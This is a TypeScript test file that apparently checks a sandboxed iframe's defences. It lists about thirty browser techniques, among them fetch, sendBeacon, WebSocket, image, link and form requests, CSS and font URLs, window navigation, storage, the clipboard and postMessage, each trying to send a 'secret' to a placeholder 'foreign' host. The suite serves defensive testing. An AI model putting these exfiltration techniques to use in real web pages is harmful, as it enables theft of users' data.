/** Attacks by code on the frame's main thread, where only our own runs: what would hold if that failed. */
import type { Attack } from './attack.ts';

const POLICY = 'content security policy of the frame: no address';
const SANDBOX = 'sandbox of the frame';
const ORIGIN = 'opaque origin of the frame';

const attack = (name: string, wall: string, code: string): Attack => ({
  attack: name,
  wall,
  place: 'frame',
  code,
});
/** An element that would fetch something by being there. */
const element = (name: string, markup: string): Attack =>
  attack(
    `an element that fetches: ${name}`,
    POLICY,
    `const e = Object.assign(document.createElement('${name}'), ${markup}); document.body.append(e); await wait(400); e.remove();`,
  );

export const IN_FRAME: readonly Attack[] = [
  attack('WebRTC', 'deleted first of all, and Connection-Allowlist', `new RTCPeerConnection(); return true;`),
  attack(
    'WebRTC from a child frame',
    'inline script of the child is refused by hash; an empty child is foreign',
    `const f = document.createElement('iframe'); document.body.append(f); await wait(200);
     try { return Boolean(f.contentWindow.RTCPeerConnection); } finally { f.remove(); }`,
  ),
  attack('fetch', 'deleted, and content security policy', `return (await fetch(foreign)).status;`),
  attack('sendBeacon', POLICY, `navigator.sendBeacon(foreign, secret); await wait(400);`),
  attack(
    'WebSocket',
    'deleted, and content security policy',
    `new WebSocket(foreign.replace('http', 'ws')); await wait(300);`,
  ),
  element('img', `{ src: foreign + '?' + secret }`),
  element('script', `{ text: 'self.leak = 1' }`),
  element('iframe', `{ src: foreign + '?' + secret }`),
  element('object', `{ data: foreign + '?' + secret }`),
  element('video', `{ src: foreign + '?' + secret, autoplay: true, muted: true }`),
  element('link', `{ rel: 'stylesheet', href: foreign + '?' + secret }`),
  element('link', `{ rel: 'prefetch', href: foreign + '?' + secret }`),
  element('link', `{ rel: 'preload', as: 'image', href: foreign + '?' + secret }`),
  element('link', `{ rel: 'dns-prefetch', href: foreign + '?' + secret }`),
  attack(
    'a style that fetches',
    POLICY,
    `document.body.style.backgroundImage = 'url(' + foreign + '?' + secret + ')'; await wait(400);`,
  ),
  attack(
    'a font',
    POLICY,
    `await new FontFace('a', 'url(' + foreign + '?' + secret + ')').load(); return true;`,
  ),
  attack('import() from the own host with a query', POLICY, `await import(own + '?' + secret); return true;`),
  attack(
    'a form',
    POLICY,
    `const f = Object.assign(document.createElement('form'), { action: foreign + '?' + secret, method: 'get' }); document.body.append(f); f.submit(); await wait(400); f.remove();`,
  ),
  attack('a new window', SANDBOX, `return Boolean(window.open(foreign + '?' + secret));`),
  attack('the page navigated away', SANDBOX, `top.location.href = foreign + '?' + secret; await wait(400);`),
  attack('the page read', ORIGIN, `return parent.document.title;`),
  attack('local storage', ORIGIN, `localStorage.setItem('leak', secret); return true;`),
  attack('a cookie', ORIGIN, `document.cookie = 'leak=' + secret; return document.cookie.includes(secret);`),
  attack(
    'a database',
    ORIGIN,
    `return await new Promise((y, n) => { const r = indexedDB.open('leak'); r.onsuccess = () => y(true); r.onerror = () => n(r.error); });`,
  ),
  attack('caches', ORIGIN, `return Boolean(await caches.open('leak'));`),
  attack(
    'a download',
    SANDBOX,
    `const a = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob([secret])), download: secret }); a.click(); await wait(200);`,
  ),
  attack('the clipboard', SANDBOX, `await navigator.clipboard.writeText(secret); return true;`),
  attack(
    'something that is no word of the frame, told to the page',
    'the page hears one window, one message, and one form',
    `parent.postMessage({ record: { type: 'count', secret } }, '*'); parent.postMessage(secret, '*'); await wait(200);`,
  ),
];
